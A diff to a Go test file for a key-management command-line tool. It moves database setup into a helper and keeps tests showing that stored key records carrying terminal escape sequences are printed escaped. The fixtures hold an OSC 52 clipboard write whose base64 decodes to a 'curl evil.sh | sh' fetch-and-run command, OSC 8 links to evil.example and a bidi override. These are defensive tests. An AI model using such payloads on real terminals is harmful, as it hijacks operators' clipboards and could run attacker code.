@@ -23,24 +23,16 @@ import (
 // messages: an OSC 52 clipboard write or an OSC 8 link reached the
 // operator's terminal.
 func TestKeysShowAndListQuoteEveryTextARecordHolds(t *testing.T) {
-	dir := t.TempDir()
-	path := writeConfig(t, fmt.Sprintf("store: {path: %q}\n", filepath.Join(dir, "k.db")))
-	st, err := sqlite.Open(filepath.Join(dir, "k.db"))
-	require.NoError(t, err)
-	now := time.Now().UTC()
-	id, err := keystore.NewID(now)
-	require.NoError(t, err)
 	var rate keystore.RateLimit
 	// OSC 52: write the operator's clipboard; OSC 8: a hyperlink.
 	require.NoError(t, rate.UnmarshalText([]byte("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07100/m\x1b]8;;https://evil.example/\x1b\\")))
-	require.NoError(t, st.Create(t.Context(), &keystore.Key{ID: id, Name: "ok", Owner: "team", Permissions: []string{"read"},
-		RateLimit: rate, Lineage: "key_\x1b[2Jx", RotatedFrom: "key_\u202eevil",
-		CreatedAt: now}, keystore.NewHasher(nil).Hash("old"), 0))
+	k := &keystore.Key{Name: "ok", Owner: "team", Permissions: []string{"read"},
+		RateLimit: rate, Lineage: "key_\x1b[2Jx", RotatedFrom: "key_\u202eevil"}
 	// An id is printed as it is too (keys list, revoke's notes, rotate's
 	// "already rotated, to %s").
-	require.NoError(t, st.Create(t.Context(), &keystore.Key{ID: "key_\x1b]8;;https://evil.example/\x1b\\key_0Vd7NFXyfOIkpygzfyqF\x1b]8;;\x1b\\",
-		Name: "ok2", Owner: "team", Permissions: []string{"read"}, CreatedAt: now}, keystore.NewHasher(nil).Hash("old2"), 0))
-	require.NoError(t, st.Close())
+	path := storedRecords(t, k, &keystore.Key{ID: "key_\x1b]8;;https://evil.example/\x1b\\key_0Vd7NFXyfOIkpygzfyqF\x1b]8;;\x1b\\",
+		Name: "ok2", Owner: "team", Permissions: []string{"read"}})
+	id := k.ID
 
 	out, errOut, code := cliRun(t, "keys", "show", id, "--config", path)
 	require.Equal(t, 0, code, errOut)
@@ -107,20 +99,38 @@ func TestANameWithAVariationSelectorAfterALetterIsRefused(t *testing.T) {
 // store, and an OSC 8 link reached the terminal. Every error is printed
 // with what does not draw escaped.
 func TestAnErrorNamingARecordsTextDrawsEverything(t *testing.T) {
-	dir := t.TempDir()
-	path := writeConfig(t, fmt.Sprintf("store: {path: %q}\n", filepath.Join(dir, "k.db")))
-	st, err := sqlite.Open(filepath.Join(dir, "k.db"))
-	require.NoError(t, err)
-	now := time.Now().UTC()
-	id, err := keystore.NewID(now)
-	require.NoError(t, err)
-	require.NoError(t, st.Create(t.Context(), &keystore.Key{ID: id, Name: "ok", Owner: "team", Permissions: []string{"read"},
-		RotatedTo: "key_\x1b]8;;https://evil.example/\x1b\\key_0Vd7NFXyfOIkpygzfyqF\x1b]8;;\x1b\\", CreatedAt: now},
-		keystore.NewHasher(nil).Hash("old"), 0))
-	require.NoError(t, st.Close())
+	k := &keystore.Key{Name: "ok", Owner: "team", Permissions: []string{"read"},
+		RotatedTo: "key_\x1b]8;;https://evil.example/\x1b\\key_0Vd7NFXyfOIkpygzfyqF\x1b]8;;\x1b\\"}
+	path := storedRecords(t, k)
+	id := k.ID
 
 	out, errOut, code := cliRun(t, "keys", "update", id, "--name", "other", "--config", path)
 	require.NotEqual(t, 0, code, out)
 	assertDrawsEverything(t, errOut, []string{"keys", "update"})
 	assert.NotContains(t, errOut, "\x1b]8;;", "an OSC 8 hyperlink from the store reaches the terminal")
+}
+
+// storedRecords writes keys straight into a new embedded store, as a
+// record written before today's checks, by hand or by another tool would
+// be, and returns the path of a config that uses it. A key without an id
+// or a creation time gets one.
+func storedRecords(t *testing.T, keys ...*keystore.Key) string {
+	t.Helper()
+	db := filepath.Join(t.TempDir(), "k.db")
+	path := writeConfig(t, fmt.Sprintf("store: {path: %q}\n", db))
+	st, err := sqlite.Open(db)
+	require.NoError(t, err)
+	now := time.Now().UTC()
+	for i, k := range keys {
+		if k.ID == "" {
+			k.ID, err = keystore.NewID(now)
+			require.NoError(t, err)
+		}
+		if k.CreatedAt.IsZero() {
+			k.CreatedAt = now
+		}
+		require.NoError(t, st.Create(t.Context(), k, keystore.NewHasher(nil).Hash(fmt.Sprint("stored", i)), 0))
+	}
+	require.NoError(t, st.Close())
+	return path
 }
